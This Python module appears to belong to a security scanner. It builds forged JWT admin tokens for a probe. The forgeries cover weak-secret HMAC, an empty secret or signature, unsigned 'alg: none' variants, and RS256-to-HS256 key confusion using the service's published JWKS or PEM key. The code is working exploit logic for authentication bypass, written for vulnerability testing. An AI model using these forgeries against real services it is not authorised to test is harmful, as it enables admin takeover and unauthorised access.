"""The forged admin tokens the probe sends, at jwt_tool's level, built by hand.

PyJWT will not sign `alg: none` in its case variants, nor use a public key as an
HMAC secret: each token here is header.payload.signature in base64url, made with
hashlib/hmac. Forgeries (jwt_tool's names in brackets):

- HMAC with each known weak secret (the wordlist attack);
- HMAC with an empty secret [-X b, blank password];
- the configured algorithm in the header and an empty signature [-X n, null signature];
- `alg: none` as none / None / NONE / nOnE, unsigned [-X a];
- RS256->HS256 key confusion: HS256 with the service's own public key, read from
  the JWKS or PEM it publishes, as the HMAC secret [-X k].

A forgery is signed only with public material (known weak secrets, nothing, the
service's published public key): never with a secret of the store. Labels name a
forgery by fingerprint or position, never by a secret value.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import re
import time
from collections.abc import Sequence

from collectors.secrets.store import fingerprint
from collectors.secrets.weak import PROBE_SECRETS

__all__ = ["NONE_VARIANTS", "forged_tokens", "public_keys"]

NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
_DIGESTS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_MAX_KEYS = 3  # of a JWKS: a probe, not a flood
_PEM = re.compile(
    rb"-----BEGIN (RSA )?PUBLIC KEY-----[A-Za-z0-9+/=\s\\n]+?-----END (RSA )?PUBLIC KEY-----\n?"
)


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _segment(obj: dict[str, object]) -> str:
    return _b64(json.dumps(obj, separators=(",", ":")).encode())


def _hmac_token(algorithm: str, key: bytes, payload: dict[str, object]) -> str:
    signing = f"{_segment({'alg': algorithm, 'typ': 'JWT'})}.{_segment(payload)}"
    mac = hmac.new(key, signing.encode("ascii"), _DIGESTS[algorithm]).digest()
    return f"{signing}.{_b64(mac)}"


def _unsigned(alg: str, payload: dict[str, object]) -> str:
    return f"{_segment({'alg': alg, 'typ': 'JWT'})}.{_segment(payload)}."


def forged_tokens(algorithm: str, keys: Sequence[tuple[str, bytes]] = ()) -> list[tuple[str, str]]:
    """(label, token) of every forged admin token. `keys`: (label, public key bytes)
    for the key confusion, each a variant of the service's published public key
    (several variants may share a label)."""
    now = int(time.time())
    payload: dict[str, object] = {
        "sub": "ultrawatch-forgery-probe",
        "role": "admin",
        "iat": now,
        "exp": now + 60,
    }
    out = [
        (
            f"{algorithm} with known weak secret {fingerprint(weak)}",
            _hmac_token(algorithm, weak.encode(), payload),
        )
        for weak in PROBE_SECRETS
    ]
    out.append((f"{algorithm} with an empty secret", _hmac_token(algorithm, b"", payload)))
    signed = _hmac_token(algorithm, b"", payload)
    out.append((f"{algorithm} with an empty signature", signed[: signed.rindex(".") + 1]))
    out += [(f"alg {alg} (unsigned)", _unsigned(alg, payload)) for alg in NONE_VARIANTS]
    out += [(label, _hmac_token("HS256", key, payload)) for label, key in keys]
    return out


# ------------------------------------------------ the service's public key


def _der_length(n: int) -> bytes:
    if n < 0x80:
        return bytes([n])
    body = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(body)]) + body


def _der(tag: int, body: bytes) -> bytes:
    return bytes([tag]) + _der_length(len(body)) + body


def _der_int(value: int) -> bytes:
    body = value.to_bytes(value.bit_length() // 8 + 1, "big")  # a leading 0: positive
    return _der(0x02, body)


_RSA_ALGORITHM_ID = _der(0x30, _der(0x06, bytes.fromhex("2a864886f70d010101")) + b"\x05\x00")


def _pem(der: bytes) -> bytes:
    text = base64.b64encode(der).decode("ascii")
    lines = "\n".join(text[i : i + 64] for i in range(0, len(text), 64))
    return f"-----BEGIN PUBLIC KEY-----\n{lines}\n-----END PUBLIC KEY-----\n".encode("ascii")


def _b64url_int(value: object) -> int:
    if not isinstance(value, str) or not value:
        raise ValueError("not a base64url string")
    return int.from_bytes(base64.urlsafe_b64decode(value + "=" * (-len(value) % 4)), "big")


def rsa_jwk_pem(jwk: dict[str, object]) -> bytes:
    """The SubjectPublicKeyInfo PEM of an RSA JWK (`n`, `e`), as OpenSSL writes it.
    Raises ValueError for anything else."""
    if jwk.get("kty") != "RSA":
        raise ValueError("not an RSA key")
    try:
        n, e = _b64url_int(jwk.get("n")), _b64url_int(jwk.get("e"))
    except (binascii.Error, ValueError) as err:
        raise ValueError("n or e is not base64url") from err
    rsa_key = _der(0x30, _der_int(n) + _der_int(e))
    spki = _der(0x30, _RSA_ALGORITHM_ID + _der(0x03, b"\x00" + rsa_key))
    return _pem(spki)


def _variants(pem: bytes) -> list[bytes]:
    """The PEM with and without its final newline: a service HMACs whichever bytes it
    loaded, and files, libraries and endpoints differ on that newline."""
    bare = pem.rstrip(b"\r\n")
    return [bare + b"\n", bare]


def _jwks_keys(doc: object, where: str) -> list[tuple[str, bytes]]:
    if isinstance(doc, dict) and isinstance(doc.get("keys"), list):
        jwks = doc["keys"]
    elif isinstance(doc, dict) and "kty" in doc:
        jwks = [doc]  # a single JWK
    else:
        raise ValueError(f"{where} has neither a JWKS, a JWK nor a PEM public key")
    rsa = [k for k in jwks if isinstance(k, dict) and k.get("kty") == "RSA"]
    if not rsa:
        raise ValueError(f"{where} has no RSA key")
    out: list[tuple[str, bytes]] = []
    for i, jwk in enumerate(rsa[:_MAX_KEYS], start=1):
        try:
            pem = rsa_jwk_pem(jwk)
        except ValueError as err:
            raise ValueError(f"{where}: RSA key {i} unusable ({err})") from err
        label = f"RS256->HS256 key confusion with RSA key {i} of {where}"
        out += [(label, variant) for variant in _variants(pem)]
    return out


def public_keys(body: bytes, where: str) -> list[tuple[str, bytes]]:
    """(label, HMAC secret) for the key confusion from what the service publishes at
    `where`: a JWKS (or one JWK) with RSA keys, or a PEM public key (alone, or in a
    JSON string). Raises ValueError naming what is wrong, never quoting the body."""
    match = _PEM.search(body)
    if match is not None:
        pem = match.group(0)
        if b"\\n" in pem:  # a PEM inside a JSON string: its newlines are escaped
            pem = pem.replace(b"\\n", b"\n")
        label = f"RS256->HS256 key confusion with the PEM key of {where}"
        return [(label, variant) for variant in _variants(pem)]
    try:
        doc = json.loads(body)
    except (ValueError, UnicodeDecodeError, RecursionError) as err:
        raise ValueError(f"{where} has neither a JWKS, a JWK nor a PEM public key") from err
    return _jwks_keys(doc, where)
